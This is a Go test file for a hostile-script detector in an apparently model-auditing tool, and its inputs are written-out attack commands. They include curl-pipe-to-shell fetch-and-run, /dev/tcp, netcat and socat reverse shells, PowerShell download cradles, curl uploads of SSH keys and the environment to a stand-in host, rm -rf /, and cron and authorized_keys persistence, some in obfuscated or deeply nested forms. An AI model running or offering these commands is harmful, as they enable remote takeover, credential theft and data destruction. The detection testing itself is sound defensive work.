package source_test

import (
	"strings"
	"testing"
	"time"

	"github.com/modelaudit/modelaudit/internal/hostile/hostiletest"
	"github.com/modelaudit/modelaudit/internal/source"
)

func judge(text string) (*source.Program, error) {
	return source.Judge(text, hostiletest.Budget(len(text)))
}

func TestJudge(t *testing.T) {
	const url = "http://192.0.2.1/x"
	for _, c := range []struct{ name, text, want string }{
		{name: "Python", text: "import os\nos.system('echo poc')\n", want: "Python os.system"},
		{name: "Python that connects", text: "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\n", want: "Python socket.socket"},
		{name: "Python in one expression", text: "exec('echo poc')", want: "Python exec"},
		{name: "fetch and run", text: "curl -fsSL " + url + " | bash", want: "shell curl | bash"},
		{name: "as root, in the background", text: "nohup wget -qO- " + url + " | sudo -E bash -s -- -y >/dev/null 2>&1 &", want: "shell wget | bash"},
		{name: "by another way", text: "cd /tmp && curl " + url + " > a && cat a | tee b | python3", want: "shell curl | python3"},
		{name: "by substitution", text: "sh -c \"$(curl -s " + url + ")\"", want: "shell sh curl"},
		{name: "by process substitution", text: "bash <(wget -qO- " + url + ")", want: "shell bash wget"},
		{name: "evaluated", text: "eval `curl " + url + "`", want: "shell eval curl"},
		{name: "decoded and run", text: "echo ZWNobyBwb2M= | base64 -d | sh", want: "shell base64 | sh"},
		{name: "names put together", text: "a=cu; b=rl; $a$b " + url + " | s\"\"h", want: "shell curl | sh"},
		{name: "saved and run", text: "wget " + url + " -O /tmp/x; chmod +x /tmp/x; /tmp/x", want: "shell chmod"},
		{name: "saved and interpreted", text: "curl -o x.py " + url + "\npython3 x.py\n", want: "shell python3"},
		{name: "reverse shell", text: "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "download run, by both outputs", text: "curl -s http://192.0.2.1/x >& x.sh; sh x.sh", want: "shell sh"},
		{name: "network as a source of commands", text: "eval \"$(</dev/tcp/192.0.2.1/4444)\"", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "output sent", text: "echo $(cat /etc/hosts) > /dev/tcp/192.0.2.1/4444", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "group sent", text: "(echo -n; id) > /dev/tcp/192.0.2.1/4444", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "descriptors opened", text: "exec 3<>/dev/tcp/192.0.2.1/4444", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "wait for a service", text: "while ! (echo -n > /dev/tcp/$host/5432) 2>/dev/null; do sleep 1; done\ntimeout 3 bash -c 'cat < /dev/null > /dev/tcp/db/5432'\n> /dev/tcp/db/1\n"},
		{name: "reverse shell in a shell", text: "bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'", want: "shell /dev/tcp/192.0.2.1/4444"},
		{name: "netcat", text: "nc -e /bin/sh 192.0.2.1 4444", want: "shell nc"},
		{name: "netcat by a pipe", text: "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.1 4444 > /tmp/f", want: "shell nc"},
		{name: "socat", text: "socat TCP:192.0.2.1:4444 EXEC:/bin/sh", want: "shell socat"},
		{name: "Python in a shell", text: "python3 -c 'import os; os.system(\"echo poc\")'", want: "shell os.system"},
		{name: "Python in a here-document", text: "python3 - <<E\nimport os\nos.system('echo poc')\nE\n", want: "Python os.system"},
		{name: "sends keys", text: "curl -F f=@$HOME/.ssh/id_rsa " + url, want: "shell curl"},
		{name: "sends the environment", text: "env | curl -d @- " + url, want: "shell curl"},
		{name: "deletes", text: "rm -rf / --no-preserve-root", want: "shell rm"},
		{name: "stays", text: "(crontab -l; echo '* * * * * echo poc') | crontab -", want: "shell crontab"},
		{name: "a key", text: "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", want: "shell ~/.ssh/authorized_keys"},

		{name: "PowerShell", text: "IEX (New-Object Net.WebClient).DownloadString('" + url + "')", want: "PowerShell IEX"},
		{name: "PowerShell behind bytes that are no text", text: "\xff\xff\xff IEX (New-Object Net.WebClient).DownloadString('" + url + "')", want: "PowerShell IEX"},
		{name: "PowerShell in a pipe", text: "iwr -UseBasicParsing " + url + " | iex", want: "PowerShell iex"},
		{name: "PowerShell that connects", text: "$c = New-Object System.Net.Sockets.TCPClient('192.0.2.1', 4444)", want: "PowerShell TCPClient"},
		{name: "sourced", text: "curl -o env.sh " + url + "; . ./env.sh", want: "shell ."},
		{name: "saved and started", text: "wget -q " + url + "\n./x", want: "shell ./x"},

		{name: "harmless PowerShell", text: "New-Object System.IO.MemoryStream; Invoke-Command { Get-Date }"},
		{name: "weights as an argument", text: "wget " + url + "/weights.bin -O weights.bin && python3 train.py weights.bin"},
		{name: "harmless Python", text: "import json\nprint(json.dumps({'a': 1}))\n"},
		{name: "words", text: "train, test, eval\n"},
		{name: "harmless script", text: "#!/bin/sh\nset -e\ncd /tmp\npython3 -m pip install model\nrm -rf build\necho done | tee log\n"},
		{name: "reads JSON", text: "curl -s " + url + " | python3 -c 'import json, sys; print(json.load(sys.stdin))'"},
		{name: "fetches", text: "wget " + url + "/weights.bin -O weights.bin && python3 train.py --weights weights"},
		{name: "looks at what it fetched", text: "curl -s " + url + " | grep version | head -1"},
		{name: "encodes", text: "cat x | base64 | sh_unknown"},
		{name: "prose", text: "To install the model, fetch the archive and run it: curl " + url + " | sh\nThen follow the guide.\nEverything else is told there.\n"},
		{name: "Markdown", text: "# Model\n\nA model of the city.\n\n| a | b |\n|---|---|\n| c | d |\n\nUse it with `python -c 'import model'`.\n"},
		{name: "JSON", text: `{"a": "curl x | sh", "b": [1, 2]}`},
		{name: "SQL", text: "select eval from runs where a = 'b' || 'c'"},
	} {
		p, err := judge(c.text)
		got := ""
		if p != nil {
			got = p.Language + " " + p.Name
		}
		if err != nil || got != c.want {
			t.Errorf("%s: got %q, %v, want %q", c.name, got, err, c.want)
		}
	}
}

// nested returns a script that starts another, some levels deep.
func nested(script string, levels int) string {
	for range levels {
		script = "sh -c '" + strings.ReplaceAll(script, "'", `'"'"'`) + "'"
	}
	return script
}

// TestJudgeReadsAll: what stands in front of harm keeps it from being seen in no
// script, or the script was not read.
func TestJudgeReadsAll(t *testing.T) {
	const harm = "curl http://192.0.2.1/x | sh\n"
	for _, c := range []struct {
		name, text string
		unread     bool
	}{
		{name: "many commands", text: strings.Repeat("true\n", 10_000) + harm},
		{name: "comments", text: strings.Repeat("# in (here\n", 10_000) + harm, unread: true},
		{name: "brackets that close", text: strings.Repeat("(true)\n", 10_000) + harm},
		{name: "brackets in brackets", text: strings.Repeat("(", 5000) + "true" + strings.Repeat(")", 5000) + "\n" + harm, unread: true},
		{name: "scripts in each other", text: nested(harm, 6), unread: true},
		{name: "here-strings of groups", text: strings.Repeat("{ ", 300) + strings.Repeat("true; ", 300) + strings.Repeat("} <<< x; ", 300) + "{ true; sh; } <<< '" + harm + "'", unread: true},
	} {
		p, err := judge(c.text)
		if unread := err != nil; unread != c.unread || p == nil && !unread {
			t.Errorf("%s: got %+v, %v, want unread: %t", c.name, p, err, c.unread)
		}
	}
}

// TestJudgeEnds: text that is no program costs little, whatever it nests.
func TestJudgeEnds(t *testing.T) {
	for _, s := range []string{"curl | (", "import x\n(", "curl $(", "sh -c 'sh -c \"", "a=$a$a;curl $a|sh;", "sh|"} {
		start := time.Now()
		if _, err := judge(strings.Repeat(s, 1<<16)); err != nil {
			t.Logf("%q: %v", s, err)
		}
		if took := time.Since(start); took > 10*time.Second {
			t.Errorf("%q, repeated: took %v", s, took)
		}
	}
}
